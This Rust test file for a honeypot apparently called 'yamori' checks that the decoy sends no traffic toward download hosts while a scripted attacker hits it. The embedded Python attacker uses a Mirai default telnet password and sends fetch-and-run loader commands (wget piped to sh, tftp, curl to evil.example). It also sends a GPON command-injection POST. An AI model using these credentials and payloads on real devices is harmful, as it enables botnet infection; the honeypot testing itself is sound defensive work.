//! `yamori decoy` in a network namespace of its own with a route out, attacked from another
//! namespace by a Python client (a Mirai-style telnet session and an HTTP exploit, both with
//! download commands), while tcpdump captures the link between them: the decoy sends nothing
//! but its answers to the attacker — no packet, ARP request or DNS query towards the hosts in
//! the download commands. Root only (`ip netns`); without it the suite fails and other runs
//! report the skip.

use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use yamori_lab::netns::{self, Lab};

use crate::peers;

/// The attacker: telnet login with a Mirai default password, the loader's download lines,
/// then a GPON exploit over HTTP. Prints `done` when every answer came.
const ATTACKER: &str = r##"
import socket, sys
host = sys.argv[1]
def until(s, needle, buf=b""):
    while needle not in buf:
        d = s.recv(4096)
        if not d:
            raise SystemExit("closed before %r: %r" % (needle, buf))
        buf += d
    return buf
s = socket.create_connection((host, 2323), timeout=10)
until(s, b"login: ")
s.sendall(b"root\r\n"); until(s, b"Password: ")
s.sendall(b"xc3511\r\n"); until(s, b"# ")
for line in [b"cd /tmp; wget http://198.51.100.7/x.sh -O- | sh",
             b"tftp -g -r m 203.0.113.9", b"curl -o c http://evil.example/c",
             b"ftpget -u a -p b 203.0.113.10 f /f"]:
    s.sendall(line + b"; /bin/busybox ECCHI\r\n"); until(s, b"ECCHI: applet not found")
s.sendall(b"exit\r\n")
while s.recv(4096):
    pass
h = socket.create_connection((host, 8080), timeout=10)
body = b"dest_host=`wget+http://203.0.113.11/g+-O+/tmp/g`&ipv=0"
h.sendall(b"POST /GponForm/diag_Form?images/ HTTP/1.1\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
reply = until(h, b"\r\n\r\n")
assert reply.startswith(b"HTTP/1.1 200"), reply
print("done")
"##;

struct Capture(Child);

impl Drop for Capture {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

#[test]
fn the_decoy_sends_nothing_but_its_answers() {
    if let Some(why) = netns::missing(&["/usr/bin/tcpdump", "/usr/bin/python3"]) {
        peers::missing("the decoy's no-outbound capture", &why);
        return;
    }
    let mut lab = Lab::new().expect("lab");
    // A way out for the decoy's namespace: anything it sent towards the download hosts would
    // cross the captured link.
    netns::run(&[
        "ip",
        "-n",
        &lab.srv,
        "route",
        "add",
        "default",
        "via",
        &lab.cli_addr,
    ])
    .expect("default route");
    let pcap = lab.dir.path().join("link.pcap");
    let pcap_s = pcap.to_string_lossy().to_string();
    let capture = Capture(
        Command::new("ip")
            .args([
                "netns", "exec", &lab.cli, "tcpdump", "-i", "eth0", "-n", "-U", "-w", &pcap_s,
            ])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("start tcpdump"),
    );
    let t0 = Instant::now();
    while std::fs::metadata(&pcap).map_or(0, |m| m.len()) == 0 {
        assert!(
            t0.elapsed() < Duration::from_secs(10),
            "tcpdump did not start"
        );
        std::thread::sleep(Duration::from_millis(50));
    }
    let events = lab.dir.path().join("events.jsonl");
    let data = lab.dir.path().join("data");
    let (telnet, http) = (
        format!("{}:2323", lab.srv_addr),
        format!("{}:8080", lab.srv_addr),
    );
    lab.spawn(
        &[
            env!("CARGO_BIN_EXE_yamori"),
            "--data-dir",
            &data.to_string_lossy(),
            "decoy",
            "--listen-telnet",
            &telnet,
            "--listen-http",
            &http,
            "--listen-mqtt",
            "off",
            "--no-store",
            "--events",
            &events.to_string_lossy(),
        ],
        "decoy.log",
    )
    .expect("start the decoy");
    lab.wait_listen(2323).expect("decoy listens");
    lab.wait_listen(8080).expect("decoy listens");

    let out = Command::new("ip")
        .args([
            "netns",
            "exec",
            &lab.cli,
            "python3",
            "-c",
            ATTACKER,
            &lab.srv_addr,
        ])
        .output()
        .expect("run the attacker");
    assert_eq!(
        String::from_utf8_lossy(&out.stdout).trim(),
        "done",
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // Time for anything the decoy might send late (a retry, a lookup).
    std::thread::sleep(Duration::from_secs(2));
    drop(capture);

    let text = std::fs::read_to_string(&events).expect("events");
    for url in [
        "http://198.51.100.7/x.sh",
        "tftp://203.0.113.9/m",
        "http://evil.example/c",
        "ftp://a:b@203.0.113.10/f",
        "http://203.0.113.11/g",
    ] {
        assert!(
            text.contains(&format!("\"url\":\"{url}\"")),
            "{url} not recorded"
        );
    }
    let read = Command::new("tcpdump")
        .args(["-n", "-r", &pcap_s])
        .output()
        .expect("tcpdump -r");
    let lines = String::from_utf8_lossy(&read.stdout).to_string();
    let (srv, cli) = (lab.srv_addr.as_str(), lab.cli_addr.as_str());
    let answers = lines
        .lines()
        .filter(|l| l.contains(&format!("IP {srv}.")))
        .count();
    assert!(
        answers > 10,
        "the capture saw the decoy's answers:\n{lines}"
    );
    for l in lines.lines() {
        let from_decoy = l.contains(&format!("IP {srv}."));
        if from_decoy {
            assert!(
                l.contains(&format!("> {cli}.")),
                "the decoy sent elsewhere: {l}"
            );
        }
        for other in [
            "198.51.100.7",
            "203.0.113.",
            "evil.example",
            ".53:",
            " > 8.8.",
        ] {
            assert!(!l.contains(other), "traffic towards a download host: {l}");
        }
        if l.contains("ARP, Request") {
            assert!(l.contains(srv) || l.contains(cli), "{l}");
        }
    }
}
